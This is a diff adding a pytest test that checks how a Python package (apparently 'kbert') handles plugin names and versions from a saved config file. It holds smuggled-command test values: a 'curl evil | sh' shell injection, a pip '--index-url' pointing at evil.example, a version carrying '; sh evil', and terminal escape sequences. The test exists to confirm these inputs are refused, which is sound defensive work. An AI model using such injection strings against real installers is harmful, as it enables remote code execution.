@@ -122,6 +122,29 @@ def test_head_that_is_not_registered(saved, refused, name):
     refused(saved, "which is not installed", kbert.load)
 
 
+@pytest.mark.parametrize(
+    ("plugin", "version", "message"),
+    [
+        ("kbert-mine", "1.2rc1", r"says that it .* pip install 'kbert-mine>="),
+        ("x\x1b[2J\x1b]0;pwned\x07", "1.0", "no name and version"),
+        ("x'; curl evil | sh; '", "1.0", "no name and version"),
+        ("--index-url=http://evil.example x", "1.0", "no name and version"),
+        ("-rrequirements.txt", "1.0", "no name and version"),
+        ("mine", "1.0'; sh evil", "no name and version"),
+        ("mine", "latest", "no name and version"),
+        ("a" * 100_000, "1", "no name and version"),
+        ("", "", "no name and version"),
+    ],
+)
+def test_a_plugin_that_a_file_names(saved, refused, plugin, version, message):
+    change(saved / "kbert.json", "head", "name", value="mine")
+    change(saved / "kbert.json", "head", "plugin", value=plugin)
+    change(saved / "kbert.json", "head", "version", value=version)
+    text = refused(saved, message, kbert.load)
+    assert ("pip install" in text) == ("says that" in message)
+    assert "\x1b" not in text and len(text) < 1000
+
+
 def test_labels_without_end(saved, refused):
     labels = list(range(2**18 + 1))
     change(saved / "kbert.json", "head", "config", "labels", value=labels)
